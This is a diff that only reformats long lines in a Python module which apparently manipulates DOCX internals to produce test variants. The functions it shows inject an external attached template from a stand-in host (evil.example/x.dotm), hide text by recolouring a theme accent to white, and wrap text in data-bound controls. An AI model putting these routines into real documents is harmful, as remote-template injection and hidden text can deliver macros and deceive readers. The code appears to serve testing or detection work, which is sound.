@@ -36,7 +36,9 @@ def exchange(pattern: str, part: str = _MAIN) -> object:
             other = next((one for one in found if one[1] != found[0][1]), None)
             if other is not None:
                 one = found[0]
-                text = text[: one.start(1)] + other[1] + text[one.end(1) : other.start(1)] + one[1] + text[other.end(1) :]
+                text = (
+                    text[: one.start(1)] + other[1] + text[one.end(1) : other.start(1)] + one[1] + text[other.end(1) :]
+                )
                 files[name] = text.encode()
 
     return made
@@ -48,7 +50,9 @@ def setting(content: str) -> object:
 
 def template(files: Files, rng: random.Random) -> None:
     name = "word/_rels/settings.xml.rels"
-    rels = files.get(name, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+    rels = files.get(
+        name, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+    )
     one = f'<Relationship Id="rT" Type="{_RELATED}/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>'
     files[name] = rels.decode().replace("</Relationships>", f"{one}</Relationships>").encode()
     setting(f'<w:attachedTemplate xmlns:r="{_RELATED}" r:id="rT"/>')(files, rng)  # type: ignore[operator]
@@ -60,7 +64,9 @@ def bound(files: Files, rng: random.Random) -> None:
                'w:storeItemID="{6C3C8BC8-F283-45AE-878A-BAB7291924A1}"/>')  # fmt: skip
     text = files[_MAIN].decode()
     new = rf"<w:sdt><w:sdtPr>{binding}</w:sdtPr><w:sdtContent>\1</w:sdtContent></w:sdt>"
-    files[_MAIN] = re.sub(r"(<w:r>(?:(?!<w:r>).)*?<w:t[^>]*>[^<]{12,}</w:t></w:r>)", new, text, count=1, flags=re.DOTALL).encode()
+    files[_MAIN] = re.sub(
+        r"(<w:r>(?:(?!<w:r>).)*?<w:t[^>]*>[^<]{12,}</w:t></w:r>)", new, text, count=1, flags=re.DOTALL
+    ).encode()
 
 
 _CHARACTER = (
@@ -76,7 +82,9 @@ def by_style(files: Files, rng: random.Random) -> None:
 def theme_colour(files: Files, rng: random.Random) -> None:
     run('<w:color w:val="000000" w:themeColor="accent6"/>')(files, rng)
     for name in [name for name in files if re.fullmatch(r"word/theme/theme\d\.xml", name)]:
-        files[name] = re.sub(r"(<a:accent6>).*?(</a:accent6>)", r'\1<a:srgbClr val="FFFFFF"/>\2', files[name].decode()).encode()
+        files[name] = re.sub(
+            r"(<a:accent6>).*?(</a:accent6>)", r'\1<a:srgbClr val="FFFFFF"/>\2', files[name].decode()
+        ).encode()
 
 
 _R = r"(<w:r>(?:(?!<w:r>).)*?<w:t[^>]*>[^<]{12,}</w:t></w:r>)"
